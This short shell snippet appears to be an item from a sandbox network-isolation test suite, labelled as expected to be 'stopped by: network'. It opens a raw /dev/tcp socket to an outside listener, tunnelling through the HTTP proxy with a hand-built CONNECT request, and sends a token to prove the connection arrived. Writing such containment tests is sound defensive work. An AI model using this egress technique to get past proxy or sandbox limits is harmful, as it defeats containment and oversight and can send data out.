# says: Speaks to the proxy by hand.
# stopped by: network
# proof: arrived
# source: CONNECT
proxy=${HTTP_PROXY:-}; proxy=${proxy#http://}
if [ -n "$proxy" ]; then exec 3<>"/dev/tcp/${proxy%:*}/${proxy##*:}" && printf 'CONNECT %s:%s HTTP/1.1\r\n\r\n' "$LISTENER" "$PORT" >&3; else exec 3<>"/dev/tcp/$LISTENER/$PORT"; fi
printf 'GET /%s HTTP/1.0\r\n\r\n' "$TOKEN" >&3; timeout 2 cat <&3
